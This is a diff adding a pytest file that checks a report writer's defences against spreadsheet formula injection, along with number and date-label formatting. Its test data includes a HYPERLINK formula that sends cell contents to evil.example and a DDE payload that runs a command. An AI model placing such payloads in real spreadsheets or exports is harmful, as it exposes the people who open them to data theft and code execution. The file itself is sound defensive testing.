@@ -1,0 +1,86 @@
+"""Cell-safe text and the small formatters shared by the Word and Excel writers."""
+
+from __future__ import annotations
+
+import io
+
+import pytest
+from openpyxl import Workbook, load_workbook
+
+from jxtrack.reports.excel import put
+from jxtrack.reports.text import clean, neutralise, num, period_label, period_title, pp
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+    "+1",
+    "-2",
+    "@SUM(A1:A9)",
+    "\t=1",
+    "\r",
+    "\r=1+1",
+    "\n=1",
+    "\x00",
+    "\x00=1",
+    "\x07@x",
+    "＝1+1",
+    "=cmd|' /C calc'!A0",
+]
+
+
+@pytest.mark.parametrize("s", HOSTILE)
+def test_hostile_text_is_neutralised(s):
+    out = neutralise(s)
+    assert not out.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
+    assert "\x00" not in out and "\x07" not in out
+    if out:
+        assert out.startswith("'")
+
+
+@pytest.mark.parametrize("s", ["南湖区", "受订单下滑影响", "1-10月", "80%", "a=b", "", "说明：-2 个"])
+def test_ordinary_text_is_kept(s):
+    assert neutralise(s) == s
+
+
+def test_no_hostile_string_becomes_a_formula_in_a_saved_workbook():
+    wb = Workbook()
+    ws = wb.active
+    for i, s in enumerate(HOSTILE, start=1):
+        put(ws, i, 1, s)
+    buf = io.BytesIO()
+    wb.save(buf)
+    ws2 = load_workbook(io.BytesIO(buf.getvalue())).active
+    for i, s in enumerate(HOSTILE, start=1):
+        c = ws2.cell(row=i, column=1)
+        assert c.data_type != "f", (s, c.value)
+        assert c.value is None or not str(c.value).startswith(("=", "+", "-", "@"))
+    # the visible text is still the county's text, behind the apostrophe
+    assert ws2.cell(row=1, column=1).value == "'" + HOSTILE[0]
+    assert ws2.cell(row=3, column=1).value == "'-2"
+
+
+def test_numbers_stay_numbers():
+    wb = Workbook()
+    c = put(wb.active, 1, 1, -2.5, "0.0")
+    assert c.value == -2.5 and c.data_type == "n"
+    assert put(wb.active, 2, 1, float("nan")).value is None
+
+
+def test_clean_removes_what_xml_cannot_hold():
+    assert clean("a\x00b\x1fc\td\ne") == "abc\td\ne"
+
+
+def test_period_labels():
+    assert period_label("2026-01") == "1月"
+    assert period_label("2026-02") == "1-2月"
+    assert period_label("2026-10") == "1-10月"
+    assert period_title("2026-12") == "2026年1-12月"
+
+
+def test_number_formats():
+    assert num(1300, "个") == "1,300"
+    assert num(356.3, "个") == "356.3"
+    assert num(219.789, "万元/亩") == "219.79"
+    assert num(500.0, "亿元") == "500"
+    assert num(None, "个") == "—"
+    assert pp(3.44) == "+3.4" and pp(-10.45) == "-10.4" or pp(-10.45) == "-10.5"
+    assert pp(0.04) == "0.0"
